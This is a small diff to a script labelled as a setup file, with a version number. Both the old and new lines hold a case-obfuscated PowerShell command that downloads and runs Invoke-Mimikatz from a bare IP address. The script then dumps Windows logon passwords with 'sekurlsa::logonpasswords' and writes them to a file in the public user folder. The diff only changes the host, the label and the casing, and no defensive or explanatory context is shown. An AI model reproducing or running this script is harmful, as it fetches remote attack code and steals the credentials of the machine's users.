@@ -1,3 +1,3 @@
-# Setup 5644 V3
-iEX (nEW-ObJeCt NeT.wEbCLient).DOWNLoaDSTrING('http://198.51.100.23/Invoke-Mimikatz.ps1')
-INVOKE-MimIkATz -cOMmaND '"privilege::debug" "sekurlsa::logonpasswords"' | out-FILE c:\useRS\PuBLIc\o.TXt
+# sEtUp 0359 v3
+Iex (NeW-ObJeCt nET.WeBcLiEnT).DoWNloaDStrINg('http://203.0.113.200/Invoke-Mimikatz.ps1')
+InvOkE-mimIkaTz -COmMAnD '"privilege::debug" "sekurlsa::logonpasswords"' | oUt-fIlE C:\UsERs\pUbLIC\o.txt
